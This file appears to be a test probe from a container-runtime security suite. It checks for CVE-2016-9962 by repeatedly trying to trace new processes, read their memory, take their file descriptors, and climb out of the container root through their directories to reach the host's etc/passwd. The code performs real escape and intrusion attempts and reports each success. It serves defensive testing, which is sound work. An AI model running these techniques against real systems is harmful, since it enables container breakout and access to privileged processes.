/* SPDX-License-Identifier: Apache-2.0 */
/*
 * intrude - what a process inside does to whoever comes in (CVE-2016-9962)
 *
 * Looks for processes that were not there before, as fast as it can, and tries all that
 * would give it something of theirs: to trace them, to read their memory, to take or open
 * their descriptors, and from a directory among these to climb out of the root. Only what
 * still runs a program that is not ours counts; each success is a line.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include "probe.h"

#define FDS 64

/* Is it the runtime on its way in? A process that cannot be looked at is taken for one. */
static int is_foreign(int pid)
{
	struct stat own, its;
	char path[64];

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	if (stat("/proc/self/exe", &own))
		return 0;
	if (stat(path, &its))
		return errno == EACCES || errno == EPERM;
	return own.st_ino != its.st_ino || own.st_dev != its.st_dev;
}

/* Does it lead to the host: by "..", or by the processes that a procfs shows? */
static int leads_out(int dir)
{
	int up = openat(dir, "../../../../../../../../../../../../../../../..",
			O_PATH | O_DIRECTORY | O_CLOEXEC);
	/* the image has no such file, the host does */
	int out = up >= 0 && (!faccessat(up, "etc/passwd", F_OK, 0) ||
			      !faccessat(up, "1/root/etc/passwd", F_OK, 0));

	if (up >= 0)
		close(up);
	return out;
}

static void try_directories(int pid)
{
	char path[64];

	for (int fd = -2; fd < FDS; fd++) {
		const char *names[] = { "cwd", "root" };
		int dir;

		if (fd < 0)
			snprintf(path, sizeof(path), "/proc/%d/%s", pid, names[fd + 2]);
		else
			snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
		dir = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
		if (dir < 0)
			continue;
		if (leads_out(dir) && is_foreign(pid))
			printf("escape by %s\n", path);
		close(dir);
	}
}

static void try_memory(int pid)
{
	char word[8];
	struct iovec to = { word, sizeof(word) };
	/* a static program begins here, or its position is random and nothing is lost */
	struct iovec from = { (void *)0x400000, sizeof(word) };

	if (process_vm_readv(pid, &to, 1, &from, 1, 0) > 0 && is_foreign(pid))
		printf("read memory of %d\n", pid);
}

/* Not PTRACE_ATTACH: a stop of that would stay behind and stop what is let go. */
static void try_trace(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, NULL, NULL))
		return;
	if (is_foreign(pid))
		printf("traced %d\n", pid);
	ptrace(PTRACE_INTERRUPT, pid, NULL, NULL);
	waitpid(pid, NULL, __WALL);
	ptrace(PTRACE_DETACH, pid, NULL, NULL);
}

static void try_steal(int pid)
{
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);

	for (int fd = 0; pidfd >= 0 && fd < FDS; fd++) {
		int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (got >= 0 && is_foreign(pid))
			printf("took descriptor %d of %d\n", fd, pid);
		if (got >= 0)
			close(got);
	}
	if (pidfd >= 0)
		close(pidfd);
}

/* With "directories" only what leads out counts: for a process that has every capability. */
int probe_intrude(int argc, char **argv)
{
	int all = argc < 2 || strcmp(argv[1], "directories") != 0;
	int highest = 0;

	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready\n");
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && (e = readdir(d))) {
			int pid = (int)strtol(e->d_name, NULL, 10);

			/* each one again and again while it is the runtime: it changes */
			if (pid <= 1 || pid == getpid() || pid < highest - 8)
				continue;
			highest = pid > highest ? pid : highest;
			if (!is_foreign(pid))
				continue;
			try_directories(pid);
			if (all) {
				try_steal(pid);
				try_memory(pid);
				try_trace(pid);
			}
		}
		if (d)
			closedir(d);
	}
}
